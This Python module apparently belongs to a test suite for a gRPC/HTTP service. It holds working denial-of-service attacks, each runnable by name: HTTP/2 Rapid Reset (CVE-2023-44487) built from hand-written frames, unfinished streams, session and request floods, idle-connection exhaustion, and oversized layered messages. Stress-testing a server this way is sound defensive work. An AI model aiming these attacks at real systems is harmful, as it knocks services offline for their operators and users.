"""`python -m scenarios.traffic.attack NAME --http HOST:PORT --grpc HOST:PORT`: what no client should send.

It prints a JSON line once it attacks, and goes on until its stdin closes: a `[[client]]` of a target file,
which a suite starts as a load. Frames are written by hand (RFC 9113), since no library sends these.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import resource
import select
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator

_DATA, _HEADERS, _RST_STREAM, _SETTINGS = 0, 1, 3, 4
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = struct.pack(">I", 8)
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
_CHECK = b"/grpc.health.v1.Health/Check"
_AGAIN_S = 0.05
_SESSIONS = 100
_SESSIONS_HZ = 500.0
_STREAMS = range(1, 2**31, 2)
_LAYERS = 260_000
_IDLE = 2000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(path: bytes) -> bytes:
    """The headers of a gRPC call: literals without indexing, each shorter than 127 bytes (RFC 7541)."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    return b"".join(b"\0" + bytes([len(k)]) + k + bytes([len(v)]) + v for k, v in fields)


def head(stream: int, path: bytes) -> bytes:
    """The HEADERS frame of a gRPC call."""
    return frame(_HEADERS, _END_HEADERS, stream, header_block(path))


def call(stream: int, path: bytes, message: bytes = b"") -> bytes:
    """A whole gRPC call with one message."""
    message = b"\0" + struct.pack(">I", len(message)) + message
    return head(stream, path) + frame(_DATA, _END_STREAM, stream, message)


def resets() -> Iterator[bytes]:
    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
    yield _PREFACE
    for stream in _STREAMS:
        yield call(stream, _CHECK) + frame(_RST_STREAM, 0, stream, _CANCEL)


def opens() -> Iterator[bytes]:
    """Calls that are begun and never made."""
    yield _PREFACE
    for stream in _STREAMS:
        yield head(stream, _CHECK)


def sessions() -> Iterator[bytes]:
    """Sessions of 0.2 s each: few enough for any server, but each is worth some lines of a log."""
    yield _PREFACE
    due_s = time.monotonic()
    for stream in _STREAMS:
        name = f"{'attacker-' * 12}{stream}".encode()
        message = b"\x0a" + bytes([len(name)]) + name  # field 1, instance_id
        yield call(stream, b"/pegaflow.Engine/Session", message)
        if stream > (oldest := 2 * _SESSIONS):
            yield frame(_RST_STREAM, 0, stream - oldest, _CANCEL)
        due_s += 1 / _SESSIONS_HZ
        time.sleep(max(0.0, due_s - time.monotonic()))


def path() -> Iterator[bytes]:
    """One call whose path is not UTF-8."""
    yield _PREFACE + call(1, b"/\xff\xfe")


def pipelined() -> Iterator[bytes]:
    """HTTP requests that wait for no answer."""
    while True:
        yield b"GET /health HTTP/1.1\r\nhost: localhost\r\n\r\n" * 1000


def send(
    address: str, pieces: Callable[[], Iterator[bytes]], *, begun: threading.Event, reads: bool = True
) -> None:
    """Send it all over one connection, and over another one when that is closed."""
    host, _, port = address.rpartition(":")
    while True:
        with contextlib.suppress(OSError), socket.create_connection((host, int(port))) as connection:
            if reads:
                threading.Thread(target=_read, args=(connection,), daemon=True).start()
            for piece in pieces():
                connection.sendall(piece)
                begun.set()
            threading.Event().wait()
        time.sleep(_AGAIN_S)


def _read(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(2**18):
            pass


def refused(address: str, *, begun: threading.Event) -> None:
    """Registers of very many layers with no memory, each a legal message below 4 MiB that must be refused."""
    import grpc

    layers = b"\x42\0" * _LAYERS + b"\x4a\0" * _LAYERS  # fields 8 and 9, layer_names and wrapper_bytes
    with grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
        register = channel.unary_unary("/pegaflow.Engine/RegisterContextBatch", bytes, bytes)
        while True:
            begun.set()
            with contextlib.suppress(grpc.RpcError):
                register(layers, timeout=10)


def idle(address: str, *, begun: threading.Event) -> None:
    """Connections that send nothing, each made again when it is closed."""
    host, _, port = address.rpartition(":")
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    poll = select.poll()
    connections: dict[int, socket.socket] = {}
    while True:
        while len(connections) < _IDLE:
            connection = socket.create_connection((host, int(port)))
            connections[connection.fileno()] = connection
            poll.register(connection, select.POLLRDHUP)
        begun.set()
        for fd, _ in poll.poll(1000 * _AGAIN_S):
            poll.unregister(fd)
            connections.pop(fd).close()
        time.sleep(_AGAIN_S)


def instances(address: str, *, begun: threading.Event) -> None:
    """`/instances`, asked for again as soon as it is answered."""
    import http.client

    while True:
        with contextlib.suppress(OSError, http.client.HTTPException):
            with contextlib.closing(http.client.HTTPConnection(address)) as connection:
                while True:
                    connection.request("GET", "/instances")
                    begun.set()
                    connection.getresponse().read()
        time.sleep(_AGAIN_S)


#: name -> its connections, what each of them does with (HTTP address, gRPC address)
ATTACKS: dict[str, tuple[int, Callable[[str, str, threading.Event], None]]] = {
    "pipelined": (1, lambda http, grpc, begun: send(http, pipelined, begun=begun)),
    "pipelined-unread": (1, lambda http, grpc, begun: send(http, pipelined, begun=begun, reads=False)),
    "path": (1, lambda http, grpc, begun: send(grpc, path, begun=begun)),
    "resets": (1, lambda http, grpc, begun: send(grpc, resets, begun=begun)),
    "opens": (1, lambda http, grpc, begun: send(grpc, opens, begun=begun)),
    "sessions": (1, lambda http, grpc, begun: send(grpc, sessions, begun=begun)),
    "idle": (1, lambda http, grpc, begun: idle(grpc, begun=begun)),
    "instances": (64, lambda http, grpc, begun: instances(http, begun=begun)),
    "refused": (8, lambda http, grpc, begun: refused(grpc, begun=begun)),
}


def main() -> None:
    """Attack until stdin closes."""
    parser = argparse.ArgumentParser(prog="python -m scenarios.traffic.attack", description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--http", required=True, metavar="HOST:PORT")
    parser.add_argument("--grpc", required=True, metavar="HOST:PORT")
    options = parser.parse_args()
    connections, attack = ATTACKS[options.name]
    begun = threading.Event()
    for _ in range(connections):
        threading.Thread(target=attack, args=(options.http, options.grpc, begun), daemon=True).start()
    begun.wait()
    sys.stdout.write(json.dumps({"attack": options.name}) + "\n")
    sys.stdout.flush()
    while sys.stdin.buffer.read(4096):
        pass
    os._exit(0)  # whatever its threads wait for


if __name__ == "__main__":
    main()
